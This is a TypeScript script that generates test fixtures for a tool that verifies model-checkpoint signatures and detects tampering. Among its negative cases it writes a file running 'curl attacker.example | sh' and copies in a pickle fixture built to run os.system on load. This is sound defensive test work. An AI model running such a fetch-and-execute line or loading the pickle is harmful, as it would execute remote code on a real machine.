/**
 * Regenerates the bundled examples (run: `npx tsx examples/make-examples.ts`).
 * Keys are generated fresh each run and only the public halves are kept: the
 * examples are signed test data, not a signing service.
 *
 *   checkpoint/               a small fine-tuned checkpoint, signed (model.sig)
 *   checkpoint-tampered/      the same files with one byte of the weights changed
 *   checkpoint-extra-file/    the same files plus an unsigned modeling_evil.py
 *   checkpoint-other-signer/  the same files, signed by a key nobody trusts
 *   checkpoint-pickle/        a checkpoint whose pytorch_model.bin runs os.system on load
 *                             (a real torch.save zip from test/fixtures; never load it)
 *   checkpoint-lm/            the same weights as a language-model family (config.json model_type "tiny-lm"),
 *                             unsigned: the pipeline demo signs it and its policy waives the family's backdoor scan
 *   base-model/               an approved base model; registry.json + its bundle
 *   base-model-pickle/        the same base model with a pickle pytorch_model.bin beside it
 */
import { cpSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { buildManifest } from "../lib/core/integrity/manifest";
import { REGISTRY_SCHEMA, registryEntry } from "../lib/core/integrity/registry";
import { generateEcKeyPair, makeModelSigningStatement, signBlobKeyed, signStatementKeyed } from "../test/helpers/sign";

const here = dirname(fileURLToPath(import.meta.url));
const out = (...p: string[]) => join(here, ...p);

/** A valid safetensors file: 8-byte LE header length, JSON header, contiguous f32 data. */
function safetensors(tensors: Record<string, { shape: number[]; seed: number }>): Buffer {
	const header: Record<string, unknown> = { __metadata__: { format: "pt" } };
	const chunks: Buffer[] = [];
	let offset = 0;
	for (const [name, t] of Object.entries(tensors)) {
		const n = t.shape.reduce((a, b) => a * b, 1);
		const data = Buffer.alloc(n * 4);
		for (let i = 0; i < n; i++) data.writeFloatLE(Math.sin(t.seed + i) / 10, i * 4);
		header[name] = { dtype: "F32", shape: t.shape, data_offsets: [offset, offset + data.length] };
		offset += data.length;
		chunks.push(data);
	}
	let json = JSON.stringify(header);
	json += " ".repeat((8 - (json.length % 8)) % 8);
	const len = Buffer.alloc(8);
	len.writeBigUInt64LE(BigInt(json.length));
	return Buffer.concat([len, Buffer.from(json), ...chunks]);
}

const CLASSIFIER = { architectures: ["TinyClassifier"], hidden_size: 16, num_labels: 4, torch_dtype: "float32" };

function writeModel(dir: string, seed: number, config: object = CLASSIFIER): void {
	rmSync(dir, { recursive: true, force: true });
	mkdirSync(dir, { recursive: true });
	writeFileSync(join(dir, "config.json"), `${JSON.stringify(config, null, 2)}\n`);
	writeFileSync(
		join(dir, "model.safetensors"),
		safetensors({
			"classifier.weight": { shape: [4, 16], seed },
			"classifier.bias": { shape: [4], seed: seed + 1 },
			"encoder.weight": { shape: [16, 16], seed: seed + 2 },
		}),
	);
	writeFileSync(join(dir, "tokenizer_config.json"), `${JSON.stringify({ model_max_length: 128 }, null, 2)}\n`);
}

async function sign(dir: string, keyPair: ReturnType<typeof generateEcKeyPair>): Promise<void> {
	const m = await buildManifest(dir, { ignorePaths: ["model.sig"] });
	const statement = makeModelSigningStatement({ modelName: m.modelName, resources: m.resources });
	writeFileSync(join(dir, "model.sig"), JSON.stringify(signStatementKeyed(statement, { keyPair }).bundle));
}

const trusted = generateEcKeyPair("P-256");
const untrusted = generateEcKeyPair("P-256");
mkdirSync(out("keys"), { recursive: true });
writeFileSync(out("keys", "signer.pub.pem"), trusted.publicKeyPem);
writeFileSync(out("keys", "untrusted.pub.pem"), untrusted.publicKeyPem);

// Fine-tuned checkpoints.
writeModel(out("checkpoint"), 1);
await sign(out("checkpoint"), trusted);

rmSync(out("checkpoint-tampered"), { recursive: true, force: true });
cpSync(out("checkpoint"), out("checkpoint-tampered"), { recursive: true });
const weights = out("checkpoint-tampered", "model.safetensors");
const { readFileSync } = await import("node:fs");
const bytes = readFileSync(weights);
bytes[bytes.length - 3] = (bytes[bytes.length - 3] ?? 0) ^ 0x40; // one bit of one float
writeFileSync(weights, bytes);

rmSync(out("checkpoint-extra-file"), { recursive: true, force: true });
cpSync(out("checkpoint"), out("checkpoint-extra-file"), { recursive: true });
writeFileSync(out("checkpoint-extra-file", "modeling_evil.py"), "import os\nos.system('curl attacker.example | sh')\n");

writeModel(out("checkpoint-other-signer"), 1);
await sign(out("checkpoint-other-signer"), untrusted);

// A checkpoint carrying a pickle payload (the fixture made by test/fixtures/pickle/make_fixtures.py).
writeModel(out("checkpoint-pickle"), 1);
cpSync(
	join(here, "..", "test", "fixtures", "pickle", "malicious-torch-zip-other-name.pt"),
	out("checkpoint-pickle", "pytorch_model.bin"),
);

// A language-model family with no ONNX export: not scannable for backdoors (the pipeline demo's waiver case).
writeModel(out("checkpoint-lm"), 1, {
	model_type: "tiny-lm",
	architectures: ["TinyLmForCausalLM"],
	hidden_size: 16,
	torch_dtype: "float32",
});

// Approved base model and its signed registry.
writeModel(out("base-model"), 100);
const entry = await registryEntry(out("base-model"), "example-org/tiny-base@v1.0");
const registry = Buffer.from(`${JSON.stringify({ schema: REGISTRY_SCHEMA, models: [entry] }, null, 2)}\n`);
writeFileSync(out("registry.json"), registry);
writeFileSync(out("registry.json.sigstore.json"), JSON.stringify(signBlobKeyed(registry, { keyPair: trusted }).bundle));

rmSync(out("base-model-pickle"), { recursive: true, force: true });
cpSync(out("base-model"), out("base-model-pickle"), { recursive: true });
// A real (empty-dict) protocol-2 pickle: what torch's legacy format starts with.
writeFileSync(out("base-model-pickle", "pytorch_model.bin"), Buffer.from([0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e]));

console.log("examples written under", here);
